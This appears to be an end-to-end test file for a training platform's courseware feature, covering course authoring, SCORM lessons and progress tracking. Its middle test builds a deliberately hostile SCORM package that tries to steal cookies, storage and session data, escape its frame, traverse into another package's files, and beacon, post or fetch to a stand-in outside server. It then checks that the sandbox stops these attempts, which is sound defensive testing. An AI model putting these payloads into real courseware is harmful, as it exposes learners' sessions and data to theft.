import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, expect, test } from 'vitest'
import { manifest2004, packed, page as scoPage, simplePackage } from '../server/test/scorm-packages.ts'
import { checkLooks } from './browser.ts'
import { secretaryAndStudent } from './demonstration.ts'
import { button, heading, isWell } from './on-page.ts'
import { demonstration } from './site.ts'

const title = '支部自编的课件'
const { site, browser, open } = await demonstration()
const { secretary, student } = await secretaryAndStudent(browser, site.origin)
const folder = await mkdtemp(path.join(os.tmpdir(), 'zhibu-courseware-'))
afterAll(() => rm(folder, { recursive: true, force: true }))

async function zip(name: string, bytes: Uint8Array): Promise<string> {
  const file = path.join(folder, name)
  await writeFile(file, bytes)
  return file
}

/** A lesson that says what it was told, and goes on from there. */
const lesson = simplePackage(`
  const said = document.createElement('p')
  API.LMSInitialize('')
  said.textContent = '上次：' + (API.LMSGetValue('cmi.suspend_data') || '没有') + '，称呼：' + API.LMSGetValue('cmi.core.student_name')
  document.body.append(said)
  const done = document.createElement('button')
  done.textContent = '学完'
  done.onclick = () => {
    API.LMSSetValue('cmi.suspend_data', '第三页')
    API.LMSSetValue('cmi.core.score.raw', '59')
    API.LMSSetValue('cmi.core.lesson_status', 'completed')
    API.LMSSetValue('cmi.core.exit', 'suspend')
    API.LMSFinish('')
  }
  document.body.append(done)`)

test('a piece is written, published, read and gone on with; how far somebody is, is told to nobody else', async () => {
  await open(secretary, '/training/courseware')
  await button(secretary, '新建课件').click()
  await secretary.getByRole('textbox', { name: '名称' }).fill(title)
  await isWell(secretary)
  await secretary.getByRole('dialog').getByRole('button', { name: '新建课件' }).click()
  await heading(secretary, title)
  await secretary.getByText('还没有单元').waitFor()

  await button(secretary, '添加单元').click()
  await secretary.getByRole('menuitem', { name: '图文' }).click()
  await heading(secretary, '添加图文单元')
  await secretary.getByRole('textbox', { name: '名称' }).fill('党的性质')
  await secretary.getByRole('textbox', { name: '正文' }).fill('中国共产党是中国工人阶级的先锋队。')
  await button(secretary, '添加单元').click()
  await heading(secretary, title)

  await button(secretary, '添加单元').click()
  await secretary.getByRole('menuitem', { name: '互动课件（SCORM）' }).click()
  await isWell(secretary)
  await secretary.locator('input[type=file]').setInputFiles(await zip('课件.zip', lesson))
  await secretary.getByRole('link', { name: '2. 党章导读' }).waitFor()
  await button(secretary, '发布课件').click()
  await button(secretary, '撤回发布').waitFor()
  expect(await checkLooks(secretary)).toEqual({})

  await open(student, '/training/courseware')
  await student.getByRole('link', { name: title, exact: true }).click()
  await student.getByRole('link', { name: '开始学习' }).click()
  await heading(student, '党的性质')
  await student.getByText('中国共产党是中国工人阶级的先锋队。').waitFor()
  await button(student, '标为已学').click()
  await button(student, '标为没有学完').waitFor()
  expect(await checkLooks(student)).toEqual({})
  await student.getByRole('link', { name: '下一个单元：党章导读' }).click()
  await heading(student, '党章导读')
  await button(student, '打开课件').click()
  const frame = student.frameLocator('iframe')
  await frame.getByText('上次：没有，称呼：学员').waitFor()
  expect(await checkLooks(student)).toEqual({})
  await frame.getByRole('button', { name: '学完' }).click()
  await student.getByText('这一课已经结束，可以关闭了。').waitFor()
  await button(student, '关闭课件').click()
  await student.getByText('已学').first().waitFor()
  await button(student, '打开课件').click()
  await frame.getByText('上次：第三页，称呼：学员').waitFor()
  await button(student, '关闭课件').click()
  await isWell(student)

  await student.getByRole('link', { name: title }).first().click()
  await button(student, '清除我的进度').click()
  await student.getByRole('dialog').getByRole('button', { name: '清除我的进度' }).click()
  await student.getByRole('link', { name: '开始学习' }).waitFor()
  expect(await checkLooks(student)).toEqual({})
})

/** What is tried by a package that means harm, one after another; what came of each is said to whoever listens. */
const attacks = (elsewhere: string, other: string) => `
  const out = {}
  const real = Object.getPrototypeOf(document)
  const attempt = async (name, work) => {
    try { out[name] = String(await work()) } catch (error) { out[name] = 'stopped' }
  }
  const cookie = () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)
  const inner = (html) => new Promise((resolve) => {
    const it = document.createElement('iframe')
    it.srcdoc = html
    addEventListener('message', (event) => { if (event.data && event.data.inner !== undefined) resolve(event.data.inner) })
    document.body.append(it)
    setTimeout(() => resolve('stopped'), 1500)
  })
  ;(async () => {
    await attempt('cookie', cookie)
    await attempt('storage of the site', () => Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')?.get.call(window).length ?? top.localStorage.length)
    await attempt('storage of a new frame', () => inner('<script>let it; try { it = localStorage.length + document.cookie } catch { it = "stopped" } top.postMessage({ zhibu: "no" }, "*"); parent.postMessage({ inner: it }, "*")<' + '/script>'))
    await attempt('interface', async () => (await fetch('/api/accounts/session', { credentials: 'include' })).text())
    await attempt('interface by a script', () => new Promise((resolve, reject) => {
      const it = document.createElement('script'); it.src = '/api/accounts/session'; it.onload = () => resolve('loaded'); it.onerror = reject
      document.head.append(it)
    }))
    await attempt('page of the site', () => top.document.title)
    await attempt('top', () => { top.location = ${JSON.stringify(elsewhere)} + '/top'; return 'went' })
    await attempt('popup', () => (window.open(${JSON.stringify(elsewhere)} + '/popup') ? 'opened' : Promise.reject()))
    await attempt('fetch elsewhere', async () => (await fetch(${JSON.stringify(elsewhere)} + '/fetch', { mode: 'no-cors' })).type)
    await attempt('beacon', () => (navigator.sendBeacon(${JSON.stringify(elsewhere)} + '/beacon', 'x'), 'sent'))
    await attempt('picture elsewhere', () => new Promise((resolve, reject) => {
      const it = new Image(); it.src = ${JSON.stringify(elsewhere)} + '/picture'; it.onload = () => resolve('loaded'); it.onerror = reject
    }))
    await attempt('form elsewhere', () => {
      const it = document.createElement('form'); it.action = ${JSON.stringify(elsewhere)} + '/form'; it.method = 'post'
      document.body.append(it); it.submit(); return 'submitted'
    })
    await attempt('frame elsewhere', () => new Promise((resolve) => {
      const it = document.createElement('iframe'); it.src = ${JSON.stringify(elsewhere)} + '/frame'; it.onload = () => resolve('asked')
      document.body.append(it); setTimeout(() => resolve('asked'), 800)
    }))
    await attempt('other package', async () => (await fetch(${JSON.stringify(other)})).text())
    await attempt('own file', async () => (await fetch('data.json')).text())
    for (const [name, result] of Object.entries(out)) API.LMSSetValue('cmi.objectives.' + Object.keys(out).indexOf(name) + '.id', 'x')
    document.title = 'done'
    const said = document.createElement('pre')
    said.id = 'said'
    said.textContent = JSON.stringify(out)
    // At last it goes away by itself, once somebody has read what it says.
    said.addEventListener('click', () => { location.href = ${JSON.stringify(elsewhere)} + '/self' })
    API.LMSInitialize('')
    document.body.append(said)
  })()`

test('a package that means harm reaches neither session nor site, neither other machines nor other packages', async () => {
  const asked: string[] = []
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end('here')
  }).listen(0, '127.0.0.1')
  afterAll(() => void elsewhere.close())
  await new Promise((resolve) => elsewhere.once('listening', resolve))
  const port = (elsewhere.address() as AddressInfo).port

  const victim = await startedBy(
    secretary,
    '别人的课件',
    packed({
      'imsmanifest.xml': manifest2004([{ id: 'one', title: '内部资料', href: 'a.html' }]),
      'a.html': scoPage('内部资料'),
    }),
  )
  await button(secretary, '关闭课件').click()
  const evil = simplePackage(
    attacks(
      `http://127.0.0.1:${port}`,
      new URL(victim, site.origin).pathname.replace('/a.html', '/~scorm/../imsmanifest.xml'),
    ),
    {
      'data.json': '{"own":true}',
    },
  )
  const requests: string[] = []
  secretary.on('request', (request) => requests.push(`${request.resourceType()} ${request.url()}`))
  const popups: string[] = []
  secretary.context().on('page', (it) => popups.push(it.url()))
  await startedBy(secretary, '存心不良的课件', evil, '#said')
  const said = await secretary.frameLocator('iframe').locator('#said').textContent()
  expect(JSON.parse(said ?? '{}')).toEqual({
    cookie: 'stopped',
    'storage of the site': 'stopped',
    'storage of a new frame': 'stopped',
    interface: 'stopped',
    'interface by a script': 'stopped',
    'page of the site': 'stopped',
    top: 'stopped',
    popup: 'stopped',
    'fetch elsewhere': 'stopped',
    beacon: 'sent',
    'picture elsewhere': 'stopped',
    'form elsewhere': 'submitted',
    'frame elsewhere': 'asked',
    'other package': 'stopped',
    'own file': '{"own":true}',
  })
  await secretary.frameLocator('iframe').locator('#said').dispatchEvent('click')
  await secretary.getByRole('button', { name: '关闭课件' }).waitFor()
  await new Promise((resolve) => setTimeout(resolve, 1_000))
  // What the package believes to have done has reached nobody, and the page stands where it stood.
  expect([asked, popups]).toEqual([[], []])
  expect(new URL(secretary.url()).origin).toBe(site.origin)
  await button(secretary, '关闭课件').click()
  await heading(secretary, '存心不良的课件')

  const { status } = await secretary.request
    .get(new URL(victim, site.origin).href, { headers: { 'sec-fetch-dest': 'document' } })
    .then((it) => ({ status: it.status() }))
  expect(status).toBe(404)
})

/** Makes a piece of a package and starts it; returns the address of its frame. */
async function startedBy(page: Page, named: string, bytes: Uint8Array, waitFor = 'h1'): Promise<string> {
  const write = { 'x-zhibu-csrf': '1', 'sec-fetch-site': 'same-origin' }
  const { organizations } = await (await page.request.get(`${site.origin}/api/courseware`)).json()
  const begun = { organizationId: organizations[0].id, title: named, summary: '' }
  const { id } = await (
    await page.request.post(`${site.origin}/api/courseware`, { data: begun, headers: write })
  ).json()
  const file = { fileName: '课件.zip', sizeBytes: bytes.length }
  const upload = await (
    await page.request.post(`${site.origin}/api/courseware/uploads`, { data: file, headers: write })
  ).json()
  await page.request.patch(`${site.origin}/api/courseware/uploads/${upload.id}?offset=0`, {
    data: Buffer.from(bytes),
    headers: { ...write, 'content-type': 'application/octet-stream' },
  })
  const unit = { kind: 'package', title: named, uploadId: upload.id }
  const added = await page.request.post(`${site.origin}/api/courseware/${id}/units`, { data: unit, headers: write })
  const { id: unitId } = await added.json()
  await open(page, `/training/courseware/${id}/units/${unitId}`)
  await button(page, '打开课件').click()
  await page.frameLocator('iframe').locator(waitFor).waitFor({ state: 'attached' })
  return (await page.locator('iframe').getAttribute('src')) ?? ''
}

test('a package of several pages and of SCORM 2004 finds its interface wherever it looks for it', async () => {
  const find = `let it = window.parent, tries = 0
    while (!it.API_1484_11 && it.parent && it.parent !== it && tries++ < 9) it = it.parent
    const api = it.API_1484_11`
  const bytes = packed({
    'imsmanifest.xml': manifest2004([{ id: 'one', title: '两页', href: 'a.html' }]),
    'a.html': scoPage(
      '第一页',
      `${find}; api.Initialize(''); api.SetValue('cmi.location', 'a'); api.SetValue('cmi.suspend_data', '带过去'); localStorage.setItem('x', '1'); location.href = 'b.html'`,
    ),
    'b.html': scoPage(
      '第二页',
      `${find}; const p = document.createElement('p'); p.id = 'got'
      p.textContent = [api.GetValue('cmi.location'), api.GetValue('cmi.suspend_data'), api.SetValue('cmi.completion_status', 'completed'), api.Commit(''), api.GetLastError()].join(' '); document.body.append(p)`,
    ),
  })
  await startedBy(secretary, '两页的课件', bytes, '#got')
  expect(await secretary.frameLocator('iframe').locator('#got').textContent()).toBe('a 带过去 true true 0')
  await button(secretary, '关闭课件').click()
  await secretary.getByText('已学').first().waitFor()
})
